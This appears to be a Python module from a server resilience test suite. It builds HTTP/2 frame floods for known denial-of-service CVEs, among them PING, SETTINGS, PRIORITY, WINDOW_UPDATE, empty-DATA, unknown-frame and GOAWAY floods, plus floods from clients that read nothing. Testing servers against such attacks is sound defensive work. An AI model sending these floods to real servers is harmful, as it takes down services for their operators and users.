"""Floods of frames that each cost the client a few bytes (CVE-2019-9512, 9513, 9515, 9518)."""

import struct

from wire import PREFACE, WATCH, framed
from wire_bytes import (
    ACK,
    DATA,
    PADDED,
    PRIORITY,
    SETTINGS,
    UNKNOWN_FRAME,
    Setting,
    frame,
    goaway,
    ping,
    priority,
    settings,
    window_update,
)

from attack import Category, Field
from subject import headers, request

category = Category("frames")

FLOOD = 100_000
OPEN_STREAMS = 900


def streams(count: int) -> range:
    return range(1, 2 * count, 2)


def open_streams(count: int = OPEN_STREAMS) -> bytes:
    """Calls whose requests never end."""
    return b"".join(map(headers, streams(count)))


FLOODS = {
    "PING": lambda: ping() * FLOOD,
    "PING acknowledgements that nobody asked for": lambda: ping(flags=ACK) * FLOOD,
    "SETTINGS": lambda: settings((Setting.MAX_CONCURRENT_STREAMS, 100)) * FLOOD,
    "SETTINGS without entries": lambda: settings() * FLOOD,
    "SETTINGS acknowledgements that nobody asked for": lambda: frame(SETTINGS, ACK) * FLOOD,
    "SETTINGS of 2,700 entries": lambda: settings(*[(99, 1)] * 2_700) * 100,
    "SETTINGS that move the windows of 900 streams": lambda: (
        open_streams()
        + (settings((Setting.INITIAL_WINDOW_SIZE, 1)) + settings((Setting.INITIAL_WINDOW_SIZE, 0))) * 10_000
    ),
    "SETTINGS whose entries move the windows of 900 streams": lambda: (
        open_streams() + settings(*[(Setting.INITIAL_WINDOW_SIZE, 1), (Setting.INITIAL_WINDOW_SIZE, 0)] * 16) * 5_000
    ),
    "SETTINGS that drop and make the header table": lambda: (
        (settings((Setting.HEADER_TABLE_SIZE, 0)) + settings((Setting.HEADER_TABLE_SIZE, 2**31))) * (FLOOD // 2)
    ),
    "PRIORITY of idle streams": lambda: b"".join(frame(PRIORITY, 0, stream, priority()) for stream in streams(FLOOD)),
    "PRIORITY that makes a chain of open streams": lambda: (
        open_streams()
        + b"".join(frame(PRIORITY, 0, stream, priority(max(stream - 2, 0), 255, True)) for stream in streams(900)) * 50
    ),
    "PRIORITY that turns a tree upside down": lambda: (
        open_streams()
        + (frame(PRIORITY, 0, 1, priority(3)) + frame(PRIORITY, 0, 3, priority(1, exclusive=True))) * (FLOOD // 2)
    ),
    "WINDOW_UPDATE of 1 for the connection": lambda: window_update(0, 1) * FLOOD,
    "WINDOW_UPDATE of 1 for a stream": lambda: headers(1) + window_update(1, 1) * FLOOD,
    "WINDOW_UPDATE of streams that are gone": lambda: request(1) + window_update(1, 1) * FLOOD,
    "WINDOW_UPDATE of 1 for 900 streams in turn": lambda: (
        open_streams() + b"".join(window_update(stream, 1) for stream in streams(900)) * 100
    ),
    "empty DATA": lambda: headers(1) + frame(DATA, 0, 1) * FLOOD,
    "empty DATA of 900 streams in turn": lambda: (
        open_streams() + b"".join(frame(DATA, 0, stream) for stream in streams(900)) * 100
    ),
    "DATA of nothing but padding": lambda: headers(1) + frame(DATA, PADDED, 1, b"\xff" + bytes(255)) * 50_000,
    "DATA of a byte each": lambda: (
        headers(1) + frame(DATA, 0, 1, b"\0") + b"".join(frame(DATA, 0, 1, b) for b in LENGTH) + ONE_BYTE * FLOOD
    ),
    "DATA on streams that are gone": lambda: request(1) + frame(DATA, 0, 1, bytes(1000)) * 20_000,
    "frames of an unknown type": lambda: frame(UNKNOWN_FRAME) * FLOOD,
    "long frames of an unknown type": lambda: frame(UNKNOWN_FRAME, payload=bytes(16_384)) * 4_000,
    "frames of the types of other RFCs": lambda: (
        b"".join(frame(kind, 0, 0, bytes(40)) for kind in (0xA, 0xB, 0xC, 0xD, 0xF, 0x10)) * 15_000
    ),
    "GOAWAY": lambda: goaway() * FLOOD,
    "GOAWAY with 16 KB to say": lambda: goaway(data=bytes(16_376)) * 4_000,
}
# A message of 4 MiB, in as many frames.
LENGTH = [bytes([byte]) for byte in struct.pack(">I", 4 << 20)]
ONE_BYTE = frame(DATA, 0, 1, b"x")

for title, flood in FLOODS.items():

    @category.attack(title)
    def strike(field: Field, flood=flood) -> None:
        attacker = field.attacker()
        # The server may end the connection, or serve it on.
        attacker.send(flood())
        attacker.settle()


UNREAD = {
    "PING": lambda: ping() * FLOOD,
    "SETTINGS": lambda: settings((Setting.ENABLE_PUSH, 0)) * FLOOD,
    "requests that are refused": lambda: b"".join(
        headers(stream, "/no/method", end=True) for stream in streams(20_000)
    ),
    "calls that are answered": lambda: b"".join(map(request, streams(20_000))),
    "streams that the server resets": lambda: b"".join(
        request(stream) + window_update(stream, 0) for stream in streams(20_000)
    ),
}

for title, flood in UNREAD.items():

    @category.attack(f"{title}, from a client that reads nothing")
    def strike_unread(field: Field, flood=flood) -> None:
        attacker = field.attacker(reads=False)
        attacker.send(flood())


@category.attack("PING on 100 connections")
def pings_everywhere(field: Field) -> None:
    for attacker in field.attackers(100):
        attacker.send(ping() * 1_000)


@category.attack("PING beside calls that run")
def pings_beside_calls(field: Field) -> None:
    attacker = field.attacker(PREFACE + settings() + request(1, WATCH, framed(b"")))
    attacker.send(ping() * FLOOD)
    attacker.settle()
